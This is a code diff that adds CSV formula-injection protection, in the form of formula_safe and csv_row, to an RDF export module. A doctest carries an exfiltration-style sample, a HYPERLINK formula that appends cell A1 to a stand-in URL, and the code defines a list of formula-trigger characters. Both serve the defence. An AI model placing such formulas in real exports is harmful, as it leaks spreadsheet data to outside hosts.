@@ -18,6 +18,7 @@ import contextlib
 import functools
 import json
 import os
+import re
 import tempfile
 from collections.abc import Callable
 from pathlib import Path
@@ -29,7 +30,7 @@ from rdflib.plugins.serializers.nt import _nt_row
 from .errors import OutputError, UnknownFormat
 from .loading import default_graph
 
-__all__ = ["EXPORT_FORMATS", "serialize_dataset", "write_atomically", "canonical_graphs"]
+__all__ = ["EXPORT_FORMATS", "serialize_dataset", "write_atomically", "canonical_graphs", "formula_safe", "csv_row"]
 
 #: Export format names and what each keeps: True if named graphs survive.
 EXPORT_FORMATS: dict[str, bool] = {"ttl": False, "trig": True, "nq": True, "nt": False, "jsonld": True}
@@ -157,6 +158,59 @@ def serialize_dataset(
         )
     prefixes = prefixes or {}
     return writers[name](canonical_graphs(dataset, prefixes), prefixes)
+
+
+# --------------------------------------------------------------------------- CSV cells
+
+#: What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
+
+
+def formula_safe(text: str) -> str:
+    """``text`` as a spreadsheet shows it as text, never as a formula.
+
+    A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
+    gets a leading single quote, as OWASP recommends against CSV injection (the
+    spreadsheet shows the quote; the rest is kept). A plain number such as ``-3.5``
+    or ``+1e6`` is data, not a formula, and stays as it is.
+
+    Examples
+    --------
+    >>> print(formula_safe('=HYPERLINK("http://example.org/?"&A1,"click")'))
+    '=HYPERLINK("http://example.org/?"&A1,"click")
+    >>> print(formula_safe("@SUM(A1)"), formula_safe(chr(9) + "=1") == "'" + chr(9) + "=1")
+    '@SUM(A1) True
+    >>> formula_safe("-3.5"), formula_safe("+12"), formula_safe("CATL"), formula_safe("")
+    ('-3.5', '+12', 'CATL', '')
+    """
+    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
+        return "'" + text
+    return text
+
+
+def csv_row(cells, *, raw: bool = False, delimiter: str = ",") -> str:
+    """One CSV record, without its line end: every cell through :func:`formula_safe`
+    (unless ``raw``), a neutralised cell always in double quotes, other cells quoted
+    only where they need it (as Python's ``csv`` module does); None is an empty cell.
+
+    Examples
+    --------
+    >>> print(csv_row(["CATL", "=1+2", "a,b", 'a "b" c', None, "-3.5"]))
+    CATL,"'=1+2","a,b","a ""b"" c",,-3.5
+    >>> csv_row(["=1+2"], raw=True)
+    '=1+2'
+    """
+    out = []
+    for cell in cells:
+        text = "" if cell is None else str(cell)
+        safe = text if raw else formula_safe(text)
+        if safe != text or any(c in safe for c in (delimiter, '"', "\r", "\n")):
+            safe = '"' + safe.replace('"', '""') + '"'
+        out.append(safe)
+    if out == [""]:
+        return '""'  # a lone empty cell, which an empty line would lose
+    return delimiter.join(out)
 
 
 def write_atomically(path: str | Path, text: str | bytes) -> Path:
